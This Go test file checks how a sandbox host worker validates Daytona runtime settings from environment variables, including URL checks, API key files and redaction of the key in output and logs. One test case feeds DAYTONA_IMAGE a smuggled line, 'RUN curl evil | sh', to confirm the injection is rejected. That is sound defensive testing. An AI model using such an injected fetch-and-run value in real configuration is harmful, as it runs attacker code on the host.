package hostworker

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sandboxcore/sandboxcore/internal/gitx"
)

const testKey = "dtn_0123456789abcdef-secret"

func daytonaEnv(t *testing.T, vars map[string]string) func(string) (string, bool) {
	base := map[string]string{
		"SANDBOX_DATA_DIR": t.TempDir(), "SANDBOX_HOST_ID": "host-1", "SANDBOX_RUNTIME_PROVIDER": "daytona",
		"DAYTONA_API_URL": "https://app.daytona.io/api", "DAYTONA_API_KEY": testKey,
	}
	for k, v := range vars {
		base[k] = v
	}
	return func(k string) (string, bool) { v, ok := base[k]; return v, ok && v != "" }
}

// TestConfigurationOfDaytona: the DAYTONA_* variables are validated at start
// with an error naming the variable (and never quoting the key); defaults
// apply; the key can come from a file; the configuration never prints it.
func TestConfigurationOfDaytona(t *testing.T) {
	cfg, err := ConfigFromEnv(daytonaEnv(t, nil))
	require.NoError(t, err)
	d := cfg.Daytona
	assert.Equal(t, "https://app.daytona.io/api", d.APIURL)
	assert.Equal(t, testKey, d.APIKey)
	assert.Equal(t, DefaultDaytonaAutoStopMinutes, d.AutoStopMinutes)
	assert.Equal(t, DefaultDaytonaAutoArchiveMinutes, d.AutoArchiveMinutes)
	for _, s := range []string{d.String(), fmt.Sprintf("%v %+v %#v", d, d, d), fmt.Sprintf("%+v", cfg)} {
		assert.NotContains(t, s, testKey)
	}
	assert.Contains(t, d.String(), "<redacted>")

	keyFile := filepath.Join(t.TempDir(), "key")
	require.NoError(t, os.WriteFile(keyFile, []byte(testKey+"\n"), 0o600))
	cfg, err = ConfigFromEnv(daytonaEnv(t, map[string]string{"DAYTONA_API_KEY": "", "DAYTONA_API_KEY_FILE": keyFile,
		"DAYTONA_SNAPSHOT": "sandboxcore/agents:1", "DAYTONA_TARGET": "eu", "DAYTONA_AUTO_STOP_MINUTES": "5", "DAYTONA_AUTO_ARCHIVE_MINUTES": "120"}))
	require.NoError(t, err)
	assert.Equal(t, testKey, cfg.Daytona.APIKey)
	assert.Equal(t, "sandboxcore/agents:1", cfg.Daytona.Snapshot)
	assert.Equal(t, "eu", cfg.Daytona.Target)
	assert.Equal(t, 5, cfg.Daytona.AutoStopMinutes)
	assert.Equal(t, 120, cfg.Daytona.AutoArchiveMinutes)

	// Without the provider, DAYTONA_* are not read at all.
	cfg, err = ConfigFromEnv(daytonaEnv(t, map[string]string{"SANDBOX_RUNTIME_PROVIDER": "local", "DAYTONA_API_URL": "bogus"}))
	require.NoError(t, err)
	assert.Empty(t, cfg.Daytona.APIURL)

	empty := filepath.Join(t.TempDir(), "empty")
	require.NoError(t, os.WriteFile(empty, []byte("\n"), 0o600))
	for name, c := range map[string]struct {
		vars     map[string]string
		variable string
	}{
		"no url":              {map[string]string{"DAYTONA_API_URL": ""}, "DAYTONA_API_URL"},
		"not a url":           {map[string]string{"DAYTONA_API_URL": "app.daytona.io"}, "DAYTONA_API_URL"},
		"credentials in url":  {map[string]string{"DAYTONA_API_URL": "https://u:p@app.daytona.io/api"}, "DAYTONA_API_URL"},
		"http in clear":       {map[string]string{"DAYTONA_API_URL": "http://127.0.0.1:4000/api"}, "DAYTONA_API_URL"},
		"no key":              {map[string]string{"DAYTONA_API_KEY": ""}, "DAYTONA_API_KEY"},
		"key with a space":    {map[string]string{"DAYTONA_API_KEY": "abc def ghi"}, "DAYTONA_API_KEY"},
		"key and key file":    {map[string]string{"DAYTONA_API_KEY_FILE": keyFile}, "DAYTONA_API_KEY_FILE"},
		"missing key file":    {map[string]string{"DAYTONA_API_KEY": "", "DAYTONA_API_KEY_FILE": "/no/such/file"}, "DAYTONA_API_KEY_FILE"},
		"empty key file":      {map[string]string{"DAYTONA_API_KEY": "", "DAYTONA_API_KEY_FILE": empty}, "DAYTONA_API_KEY_FILE"},
		"snapshot and image":  {map[string]string{"DAYTONA_SNAPSHOT": "s", "DAYTONA_IMAGE": "debian:12"}, "DAYTONA_IMAGE"},
		"image injection":     {map[string]string{"DAYTONA_IMAGE": "debian:12\nRUN curl evil | sh"}, "DAYTONA_IMAGE"},
		"snapshot with space": {map[string]string{"DAYTONA_SNAPSHOT": "a b"}, "DAYTONA_SNAPSHOT"},
		"target":              {map[string]string{"DAYTONA_TARGET": "EU West"}, "DAYTONA_TARGET"},
		"auto-stop never":     {map[string]string{"DAYTONA_AUTO_STOP_MINUTES": "0"}, "DAYTONA_AUTO_STOP_MINUTES"},
		"auto-stop words":     {map[string]string{"DAYTONA_AUTO_STOP_MINUTES": "15m"}, "DAYTONA_AUTO_STOP_MINUTES"},
		"auto-archive huge":   {map[string]string{"DAYTONA_AUTO_ARCHIVE_MINUTES": "99999999"}, "DAYTONA_AUTO_ARCHIVE_MINUTES"},
	} {
		_, err := ConfigFromEnv(daytonaEnv(t, c.vars))
		var ce *ConfigError
		require.True(t, errors.As(err, &ce), "%s: %v", name, err)
		assert.Equal(t, c.variable, ce.Variable, name)
		assert.NotContains(t, err.Error(), testKey, name)
	}
	// http:// is accepted for test servers with SANDBOX_ALLOW_HTTP_URLS=1.
	_, err = ConfigFromEnv(daytonaEnv(t, map[string]string{"DAYTONA_API_URL": "http://127.0.0.1:4000/api", "SANDBOX_ALLOW_HTTP_URLS": "1"}))
	require.NoError(t, err)
}

// TestRuntimeProviderDaytona: SANDBOX_RUNTIME_PROVIDER=daytona builds the Daytona
// runtime (isolated, with preview URLs) without contacting Daytona.
func TestRuntimeProviderDaytona(t *testing.T) {
	cfg, err := ConfigFromEnv(daytonaEnv(t, nil))
	require.NoError(t, err)
	git, err := gitx.New(gitx.Options{HomeDir: t.TempDir()})
	require.NoError(t, err)
	var logs strings.Builder
	p, err := runtimeProvider(context.Background(), cfg, git, hostParts{}, slog.New(slog.NewTextHandler(io.MultiWriter(&logs), nil)))
	require.NoError(t, err)
	assert.Equal(t, "daytona", p.Kind())
	assert.True(t, p.Capabilities().Isolated)
	assert.True(t, p.Capabilities().PreviewURL)
	assert.Contains(t, logs.String(), "runtime provider: daytona")
	assert.NotContains(t, logs.String(), testKey)
}
